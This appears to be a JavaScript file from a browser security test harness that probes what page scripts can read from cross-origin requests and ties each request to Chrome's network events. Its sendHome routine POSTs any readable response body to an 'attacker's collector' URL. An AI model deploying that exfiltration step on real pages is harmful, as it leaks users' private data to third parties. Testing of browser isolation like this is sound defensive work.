// What every page and frame runs. It makes the requests it is told to make and
// reports what JavaScript in that place got to see.
"use strict";

// attempt makes one request. The call gets the attempt's name as its function
// name: Chrome repeats it in the initiator of its network events, which ties the
// page's view and Chrome's view of a request together.
async function attempt(spec) {
  const view = { readable: false, status: 0, headers: [], body: "", error: "" };
  const abort = new AbortController();
  const timer = setTimeout(() => abort.abort("timeout"), spec.timeout);
  const init = { ...spec.init, signal: abort.signal };
  if (spec.fill) init.body = "x".repeat(spec.fill);
  const named = { [spec.name]: () => fetch(spec.url, init) };
  try {
    const response = await named[spec.name]();
    if (response.type === "opaque" || response.type === "opaqueredirect") {
      view.error = "opaque response";
      return view;
    }
    view.readable = true;
    view.status = response.status;
    view.headers = [...response.headers].map(([name, value]) => ({ name, value }));
    view.body = await read(response, spec.limit);
    if (spec.loot && view.body !== "") await sendHome(spec.loot, view.body);
  } catch (e) {
    view.error = String(e);
  } finally {
    clearTimeout(timer);
  }
  return view;
}

// read takes at most limit bytes of the body; the rest is not waited for.
async function read(response, limit) {
  if (!response.body) return "";
  const reader = response.body.getReader();
  const decoder = new TextDecoder();
  let text = "";
  for (let size = 0; size < limit; ) {
    const { done, value } = await reader.read();
    if (done) return text + decoder.decode();
    const part = value.subarray(0, limit - size);
    size += part.length;
    text += decoder.decode(part, { stream: true });
  }
  reader.cancel().catch(() => {});
  return text;
}

// sendHome hands what was read to the attacker's collector. It needs no grant:
// a page may send where it likes, it may only not read.
async function sendHome(collector, text) {
  await fetch(collector, { method: "POST", mode: "no-cors", body: text });
}

// all makes the requests, a bounded number at once, and keeps their order.
async function all(specs, parallel) {
  const views = new Array(specs.length);
  let next = 0;
  async function worker() {
    for (let i = next++; i < specs.length; i = next++) views[i] = await (ways[specs[i].way] ?? attempt)(specs[i]);
  }
  await Promise.all(Array.from({ length: parallel }, worker));
  return views;
}
